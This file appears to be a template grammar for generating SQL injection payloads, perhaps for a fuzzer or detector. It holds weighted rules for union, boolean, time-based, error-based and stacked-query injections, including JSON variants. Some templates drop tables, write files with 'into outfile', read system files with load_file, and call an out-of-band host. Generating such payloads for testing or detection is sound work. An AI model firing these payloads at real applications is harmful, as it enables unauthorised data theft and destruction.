        §plain
        4× «lead» «unionq»«tailpart»
        4× «lead» «boolean»«tailpart»
        2× «lead» «timed»«tailpart»
        2× «loginform»
        «lead» «errorbased»«tailpart»
        «lead»;«statement»«comment»
        «lead» «blind»«tailpart»

        ¶ ---- inside INSERT, JSON and functions ----
        §insert
        2× «word»',«'«word»'¦«num»¦(«query1»)»,«'«word»'¦«num»»)«comment»
        '+(«query1»)+'
        '||(«query1»)||'
        «word»'),('«word»',(«query1»))«comment»
        ',(«query1»),'«word»')«comment»
        «word»',«col»=«'«word»'¦(«query1»)» where «cond»«comment»
        «num»,(«query1»))«comment»
        «word»') on duplicate key update «col»='«rand»'«comment»
        «word»' or updatexml(1,concat(0x7e,(«scalarfn»)),0) or '
        «num»),(«num»,«scalarfn»
        §injson
        3× {"«param»":"«plain→json»"}
        {"«param»":"«num»","«param»":"«plain→json»"}
        2× «param»=«plain»
        «param»=«plain→plus»
        /«word»«.php¦.asp¦.jsp¦.aspx¦»?«param»=«plain→plus»
        "«plain»"
        «word»' and json_extract('{"a":1}','$.a')=1 «comment»
        ' or json_length('{}')<=«#1-99»«comment»
        ' or '{"b":2}'::jsonb <@ '{"a":1,"b":2}'::jsonb«comment»
        ' or data @> '{"a":"b"}'«comment»
        «param»=«num»+and+1=1&«param»=«num»
        ["«plain→json»"]
        <«word»>«plain»</«word»>
        «plain→b64»
        §shortcond
        4× «num»
        2× «num»=«num»
        «lq»«lq»=«lq»
        «lq»«letter»«lq»=«lq»«letter»
        true
        «num»<«num»
        «num»>«num»
        «letter»=«letter»
        sleep(«#1-9»)
        not «num»
        null
        «num» is null
        «num» like «num»
        §shortop
        2× ␠or␠
        2× ␠and␠
        «||¦&&¦-¦+¦*¦/¦%¦^¦|¦&¦=¦<>¦>¦<¦ in ¦ xor ¦ div ¦ rlike ¦/**/or/**/¦%20or%20¦+or+»
        §shortend
        4×
        3× --
        2× #
        2× --␠
        ;--
        ;
        /*
        )--
        '
        "
        ;#
        %00
        )
        ) or (1=1
        §functioncall
        2× (select(sleep(«#1-30»)))
        (select * from(select(sleep(«#1-30»)))a)
        (select load_file('\\\\«oasthost»\\«letter»'))
        «extractvalue¦updatexml»(«num»,concat(0x7e,«scalarfn»)«¦,1»)
        concat(«hexlit»,(«query1»),«hexlit»)
        (case when «cond» then «ident» else «ident» end)
        if(«cond»,sleep(«#1-9»),0)
        §wholestatement
        2× select «cols» from «table»«¦ where «cond»»
        «query1»
        select * from «table» where «ident»='«lq»«or2»«ltrue»«lend»
        select «scalarfn»«¦,«scalarfn»»
        «statement»;
        select «col»,«col» from «table» into outfile '/tmp/«rand»'
        select load_file(«'«unixfile»'¦«hexlit»»)
        select «sleep¦pg_sleep»(«#1-30»)
        insert into «table» values('«word»','«rand»')«comment»
        drop table «table»;--
        """";
}
